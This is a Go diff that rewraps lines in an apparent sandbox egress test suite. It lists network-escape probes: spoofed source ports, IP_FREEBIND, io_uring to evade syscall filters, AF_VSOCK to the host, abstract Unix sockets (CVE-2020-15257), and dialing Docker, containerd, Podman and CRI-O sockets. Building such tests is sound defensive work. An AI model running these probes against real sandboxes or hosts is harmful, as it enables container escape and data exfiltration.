@@ -36,10 +36,14 @@ func socketAttacks() []Attack {
 			defer unix.Close(fd)
 			return unix.Sendto(fd, []byte(a.word), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()})
 		}),
-		one("udp-source-53", "datagrams from port 53, as if they were answers", "", func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_DGRAM, 0, bindPort(53)) }),
-		one("tcp-source-53", "a connection from port 53", "", func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_STREAM, 0, bindPort(53)) }),
-		one("tcp-source-443", "a connection from port 443, as if it were an answer", "", func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_STREAM, 0, bindPort(443)) }),
-		one("bound-to-device", "a socket that is bound to the interface", "", func(a *Agent) error { return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, device) }),
+		one("udp-source-53", "datagrams from port 53, as if they were answers", "",
+			func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_DGRAM, 0, bindPort(53)) }),
+		one("tcp-source-53", "a connection from port 53", "",
+			func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_STREAM, 0, bindPort(53)) }),
+		one("tcp-source-443", "a connection from port 443, as if it were an answer", "",
+			func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_STREAM, 0, bindPort(443)) }),
+		one("bound-to-device", "a socket that is bound to the interface", "",
+			func(a *Agent) error { return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, device) }),
 		one("loopback-out", "loopback addresses through the interface", "", func(a *Agent) error {
 			return all(a.socket("127.0.0.1:"+itoa(a.port), unix.SOCK_DGRAM, 0, device), a.socket("127.1.2.3:53", unix.SOCK_DGRAM, 0, device))
 		}).leak(func(e Event) bool { return e.Kind == PacketEvent && e.Dst.IsLoopback() }),
@@ -47,11 +51,13 @@ func socketAttacks() []Attack {
 			return a.socket("[::1]:"+itoa(a.port), unix.SOCK_DGRAM, 0, device)
 		}).leak(func(e Event) bool { return e.Kind == PacketEvent && e.Dst.IsLoopback() }),
 		one("dont-route", "datagrams that ask to go past the routes", "", func(a *Agent) error {
-			return a.socket(at(neighbour, int(a.port)), unix.SOCK_DGRAM, 0, func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DONTROUTE, 1) })
+			return a.socket(at(neighbour, int(a.port)), unix.SOCK_DGRAM, 0,
+				func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DONTROUTE, 1) })
 		}),
 		one("free-bind", "somebody else's address as one's own (IP_FREEBIND)", "", func(a *Agent) error {
 			return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, func(fd int) error {
-				return all(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1), unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 99}}))
+				return all(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1),
+					unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 99}}))
 			})
 		}).vacuous("the kernel sends nothing from there without a right"),
 		one("source-route", "a route through an allowed address to another (IP option)", "", func(a *Agent) error {
@@ -107,13 +113,15 @@ func socketAttacks() []Attack {
 				unix.Sendmsg(fd, []byte(a.word), info, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{127, 0, 0, 1}}, 0))
 		}),
 		one("udp-segmentation", "many datagrams in one call (UDP_SEGMENT)", "", func(a *Agent) error {
-			return a.socketIn(unix.AF_INET, unix.SOCK_DGRAM, 0, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()}, []byte(strings.Repeat(a.word, 40)), func(fd int) error {
-				return unix.SetsockoptInt(fd, unix.IPPROTO_UDP, unix.UDP_SEGMENT, 64)
-			})
+			return a.socketIn(unix.AF_INET, unix.SOCK_DGRAM, 0, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()},
+				[]byte(strings.Repeat(a.word, 40)), func(fd int) error {
+					return unix.SetsockoptInt(fd, unix.IPPROTO_UDP, unix.UDP_SEGMENT, 64)
+				})
 		}),
 		one("io-uring", "a datagram by io_uring, past filters of system calls", "", ioUring),
 		one("vsock", "the machine beneath, by AF_VSOCK", "", func(a *Agent) error {
-			return a.socketIn(unix.AF_VSOCK, unix.SOCK_STREAM, 0, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: uint32(a.port)}, []byte(a.word), nil)
+			return a.socketIn(unix.AF_VSOCK, unix.SOCK_STREAM, 0,
+				&unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: uint32(a.port)}, []byte(a.word), nil)
 		}).vacuous("no packet filter and no wire sees these sockets; an engine's own profile refuses them"),
 		one("abstract-socket", "abstract Unix sockets of the host's programs", "CVE-2020-15257", func(*Agent) error {
 			list, err := os.ReadFile("/proc/net/unix")
@@ -134,7 +142,8 @@ func socketAttacks() []Attack {
 		}).vacuous("such sockets belong to a network namespace, and the sandbox has its own"),
 		one("engine-socket", "the container engine's socket", "", func(a *Agent) error {
 			var failed []error
-			for _, path := range []string{"/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/crio/crio.sock"} {
+			for _, path := range []string{"/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
+				"/run/crio/crio.sock"} {
 				conn, err := net.Dial("unix", path)
 				if err == nil {
 					conn.Close()
@@ -143,7 +152,8 @@ func socketAttacks() []Attack {
 			}
 			return all(all(failed...), a.tell())
 		}),
-		one("x-display", "a display or a sound server of the host, by TCP", "", func(a *Agent) error { return a.tcp(at(gatewayAddr, 6000), at(gatewayAddr, 4713)) }).leak(to(gatewayAddr)),
+		one("x-display", "a display or a sound server of the host, by TCP", "",
+			func(a *Agent) error { return a.tcp(at(gatewayAddr, 6000), at(gatewayAddr, 4713)) }).leak(to(gatewayAddr)),
 	}
 }
 
